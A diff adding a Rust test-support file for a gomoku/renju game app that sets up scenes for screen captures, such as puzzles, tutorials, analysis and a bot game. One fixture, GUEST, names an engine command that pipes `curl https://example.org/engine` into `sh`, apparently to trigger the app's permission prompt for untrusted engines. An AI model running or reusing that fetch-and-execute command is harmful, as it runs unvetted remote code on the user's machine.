@@ -1,0 +1,260 @@
+//! What brings the app to the screen of a scene.
+
+use std::time::{Duration, UNIX_EPOCH};
+
+use app::{Chair, KeyboardCursor, Page, SheetCommand};
+use bevy::prelude::*;
+use game::{
+    EditCommand, Group, Intent, Setting, Standing, Strictness, TeachingCommand, TutorialCommand,
+    WorkshopCommand,
+};
+use player::Speaker;
+use record::{Evaluation, ProvenWin};
+use rules::{Color as Stone, Side};
+
+use crate::support::*;
+
+pub fn dress(app: &mut App, theme: &str) {
+    let theme = Setting::Theme(theme.into());
+    send(app, Intent::Set(theme));
+}
+
+/// A comment that is being written.
+pub fn comment(app: &mut App) {
+    play_some(app);
+    tap(app, KeyCode::KeyW);
+    type_text(app, "Now Black has to answer.");
+}
+
+/// A file in the working folder that names an engine.
+pub const GUEST: &str = "[players.guest]\nkind = \"gomocup\"\nname = \"Guest\"\n\
+                     engine.command = [\"sh\", \"-c\", \"curl https://example.org/engine | sh\"]\n\
+                     engine.folder = \"engines\"\n";
+
+/// The question about that engine.
+pub fn ask_for_permission(app: &mut App) {
+    play_some(app);
+    intend(app, Intent::Replace(Side::Second, "guest".into()));
+}
+
+/// A position that is set up from a game.
+pub fn set_up(app: &mut App) {
+    play_some(app);
+    tap(app, KeyCode::KeyB);
+    let stones = [
+        ("c3", Stone::White),
+        ("d4", Stone::White),
+        ("m12", Stone::Black),
+    ];
+    for (stone, color) in stones {
+        send(app, Intent::Edit(EditCommand::Put(point(stone), color)));
+    }
+    app.update();
+    let place = place_of_point(app, point("e11"));
+    hover(app, place);
+}
+
+/// A paused game of two bots that speak.
+pub fn watch(app: &mut App) {
+    tap(app, KeyCode::KeyT);
+    for _ in 0..5 {
+        let_pass(app, Duration::from_millis(500));
+    }
+    intend(app, Intent::Pause);
+}
+
+/// Where the games of a picture are kept while it is drawn.
+#[derive(Resource)]
+pub struct Kept(pub tempfile::TempDir);
+
+pub fn list_games(app: &mut App) {
+    let folder = app.world().resource::<Kept>().0.path().to_owned();
+    let then = UNIX_EPOCH + Duration::from_secs(1_767_268_800);
+    let mut games = Vec::new();
+    play_some(app);
+    games.push(session(app).record().to_text());
+    intend(app, Intent::Restart);
+    win(app);
+    games.push(session(app).record().to_text());
+    app.update();
+    // Replaces the games that were kept today.
+    for kept in std::fs::read_dir(&folder).expect("it is there") {
+        let _ = std::fs::remove_file(kept.expect("an entry").path());
+    }
+    for (number, text) in (1..).zip(games) {
+        let file = folder.join(format!("{number}.json"));
+        std::fs::write(&file, text).expect("it can be written");
+        let file = std::fs::File::options().append(true).open(file);
+        let time = then + Duration::from_secs(86_400 * number);
+        file.and_then(|file| file.set_modified(time))
+            .expect("it can be dated");
+    }
+    open(app, Page::Games);
+    tap(app, KeyCode::Tab);
+    tap(app, KeyCode::Tab);
+}
+
+pub fn read_log(app: &mut App) {
+    for seat in game(app).seats().iter() {
+        let console = seat.console();
+        console.log(Speaker::Manager, "START 15");
+        console.log(Speaker::Engine, "OK");
+        console.log(Speaker::Manager, "BEGIN");
+        console.log(Speaker::Engine, "7,7");
+    }
+    open(app, Page::Log(Side::Second));
+}
+
+pub const OPEN_THREE: &str = r#"{"kind":"vct","rule":"renju","side":"black",
+    "black":["h8","i8","j8","g10","i11"],"white":["i7","h9","k10","j6","f7"]}"#;
+/// Black is to move and does not win: the four that is played has one answer.
+pub const CLOSED_THREE: &str = r#"{"kind":"vcf","rule":"freestyle","side":"black",
+    "black":["h8","i8","j8"],"white":["g8","a1","b3"]}"#;
+
+/// A puzzle after these moves, each answered.
+pub fn puzzle(app: &mut App, text: &str, moves: &[&str]) {
+    let folder = tempfile::tempdir().expect("a folder");
+    let file = folder.path().join("some.jsonl");
+    std::fs::write(&file, text.replace('\n', "")).expect("it can be written");
+    send(app, Intent::OpenGame(file));
+    app.update();
+    for stone in moves {
+        let answered = ply(app) + 2;
+        intend(app, Intent::Place(point(stone)));
+        update_until(app, "the answer", |app| ply(app) == answered);
+    }
+    update_until(app, "a verdict", |app| {
+        let standing = game(app).puzzles().standing(session(app));
+        !matches!(standing, Some(Standing::Judging | Standing::Posed(None)))
+    });
+}
+
+/// An offer of the teacher after this number of questions.
+pub fn teach(app: &mut App, asked: usize) {
+    intend(app, Intent::Set(Setting::Teaching(Strictness::Normal)));
+    intend(app, Intent::PasteGame("h8a1i8b3j8a15".into()));
+    intend(app, Intent::Replace(Side::Second, "slow".into()));
+    intend(app, Intent::Place(point("o1")));
+    update_until(app, "the offer", |app| {
+        game(app).teacher().offer().is_some()
+    });
+    for _ in 0..asked {
+        intend(app, Intent::Teach(TeachingCommand::More));
+    }
+}
+
+/// A lesson of the tutorial after these moves, each answered.
+pub fn learn(app: &mut App, at: usize, moves: &[&str]) {
+    intend(app, Intent::Tutorial(TutorialCommand::Begin));
+    for _ in 0..at {
+        intend(app, Intent::Tutorial(TutorialCommand::Next));
+    }
+    for stone in moves {
+        intend(app, Intent::Place(point(stone)));
+        update_until(app, "the answer", |app| !game(app).tutorial().is_waiting());
+    }
+}
+
+pub fn play_some(app: &mut App) {
+    play(app, &["h8", "i9", "g9", "i7", "i8", "g8", "h9", "h7", "j9"]);
+    intend(app, Intent::Undo);
+    play(app, &["f10", "i10"]);
+}
+
+pub fn forbid(app: &mut App) {
+    play(app, &["h9", "a1", "h10", "a3", "i8", "a5", "j8", "a7"]);
+    app.insert_resource(KeyboardCursor(Some(point("h8"))));
+}
+
+/// The first reply in a solved game, with all replies numbered.
+pub fn solved(app: &mut App) {
+    for command in [
+        SheetCommand::Open(Page::Solved),
+        SheetCommand::PlaySolved { numbered: true },
+    ] {
+        app.world_mut().write_message(command);
+        app.update();
+    }
+    update_until(app, "the numbers", |app| {
+        let analysis = game(app).analysis();
+        let progress = analysis.progress();
+        !analysis.is_thinking() && progress.is_some_and(|it| !it.resistance.is_empty())
+    });
+}
+
+/// An analysis that has nothing more to find: White has one move.
+pub fn analyse(app: &mut App) {
+    play(app, &["h8", "g8", "i8", "i9", "j8", "j7", "k8"]);
+    for (ply, black) in (1..).zip([0.5, 0.55, 0.62, 0.6, 0.9, 0.7, 1.0]) {
+        let evaluation = Evaluation {
+            black,
+            proven: None,
+            line: vec![point("l8")],
+            depth: 99,
+        };
+        let intent = knowing(session(app), ply, evaluation);
+        intend(app, intent);
+    }
+    send(app, Intent::ToggleAnalysis);
+    update_until(app, "the only move", |app| {
+        let analysis = game(app).analysis();
+        analysis.progress().is_some() && !analysis.is_thinking()
+    });
+}
+
+pub fn win(app: &mut App) {
+    play(app, &["h8", "h9", "i8", "i9", "j8", "j9", "k8", "k9", "l8"]);
+}
+
+/// A game that a human has given up.
+pub fn resign(app: &mut App) {
+    intend(app, Intent::Place(point("h8")));
+    update_until(app, "the answer", |app| ply(app) == 2);
+    intend(app, Intent::Resign);
+}
+
+/// A finished game, all positions of which were searched.
+pub fn review(app: &mut App) {
+    win(app);
+    for (ply, black) in (1..).zip([0.5, 0.55, 0.75, 0.7, 1.0, 0.6, 1.0, 1.0]) {
+        let evaluation = Evaluation {
+            black,
+            proven: (black == 1.0).then_some(ProvenWin {
+                winner: Stone::Black,
+                plies: 5,
+            }),
+            line: vec![point("l8")],
+            depth: 99,
+        };
+        let intent = knowing(session(app), ply, evaluation);
+        intend(app, intent);
+    }
+    intend(app, Intent::Last);
+    intend(app, Intent::Analyse(true));
+}
+
+/// A hint that a four has to be stopped.
+pub fn hint(app: &mut App) {
+    play(app, &["h8", "g8", "i8", "a1", "j8", "b1", "k8"]);
+    intend(app, Intent::Hint);
+    update_until(app, "the hint", |app| game(app).hint().finding().is_some());
+    intend(app, Intent::Hint);
+}
+
+pub fn open(app: &mut App, page: Page) {
+    app.world_mut().write_message(SheetCommand::Open(page));
+    app.update();
+}
+
+/// The workshop with a character, two keys of which were changed, one wrongly.
+pub fn edit_tiger(app: &mut App, group: Group) {
+    open(app, Page::Picker(Chair::Card(1)));
+    app.world_mut()
+        .write_message(SheetCommand::EditCharacter("tiger".to_owned()));
+    app.update();
+    app.world_mut().write_message(SheetCommand::Group(group));
+    for (key, value) in [("style.attack", 2.5), ("perception.miss_four", 0.25)] {
+        let set = WorkshopCommand::Set(key.to_owned(), value.into());
+        intend(app, Intent::Workshop(set));
+    }
+}
